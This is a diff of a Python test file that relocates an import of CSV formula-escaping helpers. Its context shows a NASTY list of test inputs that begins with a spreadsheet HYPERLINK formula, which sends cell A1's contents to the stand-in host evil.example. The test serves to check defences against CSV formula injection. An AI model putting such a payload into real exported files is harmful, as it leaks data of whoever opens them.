@@ -7,9 +7,9 @@ import csv
 
 import pytest
 
+from aepo_trainer._utils.csv_safety import FORMULA_TRIGGERS, escape_cell, unescape_cell
 from aepo_trainer.annotation import AnnotationRequest, AnnotationsPending, HumanQueueAnnotator
 from aepo_trainer.cli.io import read_rows, write_rows
-from aepo_trainer.csv_safety import FORMULA_TRIGGERS, escape_cell, unescape_cell
 
 NASTY = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
